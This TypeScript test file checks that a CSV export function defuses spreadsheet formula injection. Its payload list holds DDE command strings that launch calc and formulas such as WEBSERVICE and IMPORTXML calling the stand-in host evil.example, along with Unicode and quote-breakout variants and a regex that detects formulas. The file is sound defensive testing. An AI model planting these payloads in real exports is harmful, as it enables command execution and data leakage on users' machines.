import fc from 'fast-check';
import Papa from 'papaparse';
import {expect, test} from 'vitest';
import {csvSheet, harmlessDivided} from '../../../src/spot/delivery/csv-sheet.ts';

/** Cells that spreadsheets run, or that break out of a cell. */
const PAYLOADS = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example","click")',
  '=IMPORTXML("http://evil.example","//a")',
  '=WEBSERVICE("http://evil.example")',
  '=DDE("cmd";"/C calc";"x")',
  '+1+1',
  "+cmd|' /C calc'!A0",
  '-1+1',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+1)',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '  =1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '\uff1d1+1',
  '\uff0b1+1',
  '\uff0d1+1',
  '\uff20SUM(1)',
  '|cmd',
  '%0A=1+1',
  '","=1+1',
  '"\r\n=1+1',
  'Fresh;=1+1',
  'Fresh; @SUM(1)',
  'Fresh\n=1+1',
];

/** What a spreadsheet takes for a formula. */
const RUNS = /^[\s\u00a0\u200b\ufeff]*[=+\-@\uff1d\uff0b\uff0d\uff20|%]|^[\t\r\n]/;

test.each(PAYLOADS)('the cell %j is no formula, and stays one cell', (payload) => {
  for (const delimiter of [',', '\t'] as const) {
    const text = csvSheet(['a', 'b'], [[payload, 'next']], {delimiter});
    const {data} = Papa.parse<string[]>(text, {delimiter, newline: '\r\n', skipEmptyLines: true});
    expect(data).toHaveLength(2);
    expect(data[1]).toHaveLength(2);
    expect(data[1]?.[0]).not.toMatch(RUNS);
    expect(data[1]?.[0]?.replaceAll("'", '')).toBe(payload.replaceAll("'", ''));
  }
});

test.each(PAYLOADS)(
  'the cell %j is no formula either where a spreadsheet has another separator',
  (payload) => {
    const text = csvSheet(['a', 'b', 'c'], [['first', payload, 'next']]);
    // Quotes inside of a cell count for nothing, as where the cell does not begin with one.
    for (const cell of text.split(/[;\r\n]/)) expect(cell).not.toMatch(RUNS);
  },
);

test('the sheet of a platform has the texts as they are', () => {
  expect(csvSheet(['a'], [['Why;\n- light']], {exact: true})).toBe('a\r\n"Why;\n- light"\r\n');
});

test('numbers stay numbers', () => {
  expect(csvSheet(['a'], [[-3.5], ['-3.5'], [null], [true]])).toBe('a\r\n-3.5\r\n-3.5\r\n\r\ntrue\r\n');
});

test('whatever cells contain, a reader gets them back, but for the apostrophe', () => {
  fc.assert(
    fc.property(fc.array(fc.tuple(fc.string(), fc.string()), {minLength: 1}), (rows) => {
      const {data} = Papa.parse<string[]>(csvSheet(['a', 'b'], rows), {delimiter: ',', newline: '\r\n'});
      expect(data.slice(1, -1)).toEqual(rows.map((cells) => cells.map(harmlessDivided)));
    }),
  );
});
